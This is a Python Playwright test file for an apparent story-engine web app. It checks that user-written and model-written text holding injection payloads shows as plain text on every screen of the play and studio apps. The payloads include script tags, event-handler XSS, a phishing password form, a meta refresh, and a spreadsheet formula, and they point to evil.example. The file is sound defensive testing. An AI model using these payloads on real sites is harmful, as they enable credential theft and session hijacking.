"""What a person or a model writes is shown as it was written: in both apps, on every screen, in a real browser."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING

import pytest

from engine.providers.llm.offline.actor import OfflineActor
from engine.story.avatar_kit import AvatarKit
from engine.story.episode import Resolution
from engine.story.world import World
from engine.wiring import open_engine
from tests import tiny
from tests.browsing import new_person, outside
from tests.conftest import quiet
from tests.play.troupe import Puppet
from tests.web.visiting import Site, running

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

HOSTILE = (
    "![x](http://evil.example/1.png?s=secret)",
    "<img id=pwned1 src=http://evil.example/2.png onerror=\"document.title='pwned'\">",
    "<script>document.title='pwned'</script>",
    "<form id=pwned2 action=http://evil.example/><input type=password name=p><button>Sign in</button></form>",
    '<div id=pwned3 style="position:fixed;inset:0;z-index:99999;background:red">Sign in again</div>',
    "<style id=pwned4>body{display:none!important}</style>",
    '<iframe id=pwned5 srcdoc="<script>top.document.title=1</script>"></iframe>',
    "<svg id=pwned6 onload=\"document.title='pwned'\"></svg>",
    "[click](javascript:document.title='pwned') [me](data:text/html,hi)",
    "${document.title='pwned'} {{constructor.constructor('document.title=1')()}}",
    "<link id=pwned7 rel=stylesheet href=http://evil.example/x.css><base id=pwned8 href=http://evil.example/>",
    ':material/home: $\\int$ :red[x] <meta id=pwned9 http-equiv=refresh content="0;url=http://evil.example/">',
    '=HYPERLINK("http://evil.example/","x")',
    "<a id=pwned10 href=http://evil.example/ autofocus onfocus=\"document.title='pwned'\">x</a>",
    "\u202eevil\u202c </textarea></script><video id=pwned11 src=http://evil.example/v.mp4 autoplay>",
)
ALL = "\n".join(HOSTILE)
SHORT = HOSTILE[1][:60]
NAME = "<b id=pwned12>Ana</b>![x](//evil.example)"
LINE = f"Listen. {ALL}"


@dataclass(frozen=True)
class Played:
    """A house full of hostile text, with a browser in it."""

    site: Site
    page: Page
    character_id: str
    world_id: str
    session_id: str
    reply_part: str = "evil.example/1.png"


@pytest.fixture(scope="module")
def played(chromium: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Played]:
    settings = quiet(tmp_path_factory.mktemp("hostile"), "")
    puppet = Puppet(OfflineActor(settings.content / "offline", 0.0))
    with open_engine(settings, actor=puppet) as engine, running(engine, faces=True) as site:
        world_id, character_id = _written(site)
        page = new_person(chromium, site, NAME)
        me = page.evaluate("fetch('/api/v1/people/me').then(answer => answer.json())")["id"]
        session_id = engine.play.start(me, tiny.FIRST).session_id
        _said(site, puppet, me, session_id)
        yield Played(site, page, character_id, world_id, session_id)
        page.context.close()


def _written(site: Site) -> tuple[str, str]:
    """A published story whose every text is hostile."""
    engine = site.engine
    world = World(slug="w", name=HOSTILE[0], genre="psychological_thriller", tone=SHORT, description=ALL)
    world = engine.worlds.save(replace(world, scenes=(SHORT,)))
    told = {"backstory": ALL, "current_stressor": ALL, "archetype": SHORT, "likes": (SHORT,), "dislikes": (SHORT,)}
    traits = {"traits": [SHORT], "more": HOSTILE[4]}
    known = {"personality": traits, "tone_style": traits, "speech_patterns": traits, "boundaries": traits}
    mara = engine.characters.save(tiny.character(world.id, name=HOSTILE[0], **told, **known))
    engine.avatars.save_kit(mara.id, AvatarKit(appearance_prompt=ALL, style_prompt=SHORT, negative_prompt=SHORT))
    engine.avatars.choose(mara.id, engine.avatars.upload(mara.id, tiny.portrait()))
    texts = dict.fromkeys(("situation", "episode_frame", "opening_line", "dramatic_question"), ALL)
    ends = (Resolution(kind="positive", text=ALL),)
    more = {"starter_lines": HOSTILE[:3], "arc_hints": (SHORT,), "resolutions": ends, "title": HOSTILE[0]}
    engine.episodes.save(tiny.episode(tiny.FIRST, 1, character_id=mara.id, **texts, **more))
    engine.releases.publish(mara.id)
    return world.id, mara.id


def _said(site: Site, puppet: Puppet, me: str, session_id: str) -> None:
    """A hostile line, a hostile reply, a hostile note."""
    play = site.engine.play
    puppet.answers(LINE, ALL)
    accepted = play.say(me, session_id, "1", LINE)
    assert [frame.state for frame in play.follow(me, accepted.turn.id)][-1] == "complete"
    take = play.session(me, session_id).turns[1].takes[0]
    site.engine.feedback.give(me, take.id, "down", ALL[:900])
    site.engine.drafts.keep(me, "character", "new-one", {"name": ALL}, "")


def _harmless(played: Played, address: str, waits_for: str) -> None:
    page = played.page
    page.goto(address)
    page.get_by_text(waits_for).first.wait_for(state="attached")
    page.wait_for_timeout(1500)
    assert page.locator("[id^=pwned]").count() == 0, address
    assert page.locator("input[type=password], iframe[srcdoc], [href^='javascript:'], [src*='evil']").count() == 0
    assert "pwned" not in page.title()
    assert "evil.example" not in " ".join(outside(page)), address
    assert outside(page) == [], address
    top = page.evaluate("document.elementsFromPoint(innerWidth / 2, innerHeight / 2).map(e => e.id).join()")
    assert "pwned" not in top


def test_play_shows_hostile_text_as_it_was_typed(played: Played) -> None:
    _harmless(played, "/play/", "evil.example/1.png")
    _harmless(played, f"/play/stage?session={played.session_id}", "evil.example/1.png")
    said = played.page.locator("body").inner_text()
    for part in ("<script>document.title", "<form id=pwned2", "${document.title", "[click](javascript:"):
        assert part in said, part


@pytest.mark.parametrize(
    ("screen", "waits_for"),
    [
        ("", "evil.example"),
        ("worlds", "evil.example"),
        ("world?id={world}", "pwned"),
        ("characters", "evil.example"),
        ("character?id={character}", "pwned"),
        ("looks?id={character}", "pwned"),
        ("episodes?id={character}", "evil.example"),
        ("releases?id={character}", "evil.example"),
        ("inbox", "pwned"),
        ("engagement", "Engagement"),
        ("transcript?session={session}", "pwned"),
    ],
)
def test_the_studio_shows_hostile_text_as_it_was_typed(played: Played, screen: str, waits_for: str) -> None:
    names = {"world": played.world_id, "character": played.character_id, "session": played.session_id}
    _harmless(played, f"/studio/{screen.format(**names)}", waits_for)
